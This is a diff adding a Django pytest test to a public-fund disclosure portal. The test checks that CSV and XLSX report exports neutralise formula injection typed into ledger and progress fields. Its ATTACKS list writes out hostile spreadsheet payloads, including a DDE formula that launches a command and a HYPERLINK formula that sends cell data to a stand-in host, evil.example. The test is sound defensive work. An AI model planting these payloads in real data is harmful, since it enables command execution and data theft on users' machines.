@@ -425,3 +425,76 @@ def test_reports_read_in_beijing_days_one_money_format_and_words(client, city, t
     assert kinds == {"收入", "支出"} and "中央补助资金" in categories and "central_subsidy" not in categories
     contractors = read_csv(client.get(reverse("report_csv", args=["contractors"])))
     assert "改造项目数" in contractors[0]
+
+
+ATTACKS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\tTAB",
+]
+
+
+@pytest.mark.django_db
+def test_formulas_typed_into_the_ledger_or_progress_never_run_in_an_export(
+    client, city, two_streets, django_capture_on_commit_callbacks
+):
+    """OWASP's CSV-injection rule: a text cell starting with = + - @ tab or CR is shown, never run —
+    in the CSV (cursor and COPY paths alike) with a leading apostrophe, in the XLSX as a string cell.
+    Amounts stay numbers, negative ones too."""
+    from disclosure import services as money
+    from tests.disclosure.test_public_pages import progress
+
+    project = two_streets[0]
+    w = type("W", (), {"project": project})
+    for attack in ATTACKS:
+        income(city, w, amount="1.00", memo=attack)
+    entry = income(city, w, amount="2.00", memo="正常备注")
+    money.ledger_reverse(entry=entry, actor=city.street_a_staff, memo="=1+1 冲销")
+    money.ledger_record(  # the counterparty is typed too
+        project=project,
+        actor=city.street_a_staff,
+        date=timezone.localdate(),
+        kind="income",
+        amount=Decimal("3.00"),
+        counterparty="=cmd|' /C calc'!A0",
+        source="central_subsidy",
+    )
+    progress(city, w, 10, text=ATTACKS[1])
+
+    client.force_login(city.bureau)
+    ledger = read_csv(client.get(reverse("report_csv", args=["ledger"])))
+    memo = [code for code, _label in REPORTS["ledger"].columns].index("memo")
+    memos = {r[memo] for r in ledger[1:]}
+    assert {"'" + a for a in ATTACKS} <= memos and "'=1+1 冲销" in memos and "正常备注" in memos
+    assert not any(m.startswith(("=", "+", "-", "@", "\t")) for m in memos)
+    # The cursor path (SQLite, or a report PostgreSQL does not COPY) writes the same cells.
+    from portal.exports import csv_stream
+
+    report = REPORTS["ledger"]
+    via_cursor = list(
+        csv.reader(io.StringIO("".join(csv_stream([str(h) for _c, h in report.columns], report.rows(Filters())))[1:]))
+    )
+    assert via_cursor == ledger
+    counterparty = [code for code, _label in REPORTS["ledger"].columns].index("counterparty")
+    assert "'=cmd|' /C calc'!A0" in {r[counterparty] for r in ledger[1:]}
+    # Amounts are numbers, exact, never prefixed.
+    assert sorted(Decimal(r[4]) for r in ledger[1:]) == sorted(LedgerEntry.objects.values_list("amount", flat=True))
+    progress_csv = read_csv(client.get(reverse("report_csv", args=["progress"])))
+    assert "'" + ATTACKS[1] in {r[-1] for r in progress_csv[1:]}
+
+    # XLSX: built by the job; no cell is a formula, the text is exactly what was typed.
+    for code in ("ledger", "progress"):
+        with django_capture_on_commit_callbacks(execute=True):
+            client.post(reverse("report_xlsx", args=[code]), {"status": ""})
+        job = ExportJob.objects.filter(report=code).latest("created_at")
+        data = b"".join(client.get(reverse("export_download", args=[job.pk])).streaming_content)
+        sheet = load_workbook(io.BytesIO(data)).active
+        cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
+        assert cells and all(c.data_type != "f" for c in cells)
+        texts = {c.value for c in cells if c.data_type == "s"}
+        assert (set(ATTACKS) if code == "ledger" else {ATTACKS[1]}) <= texts
+        if code == "ledger":
+            assert any(c.data_type == "n" for c in cells)  # amounts are numbers
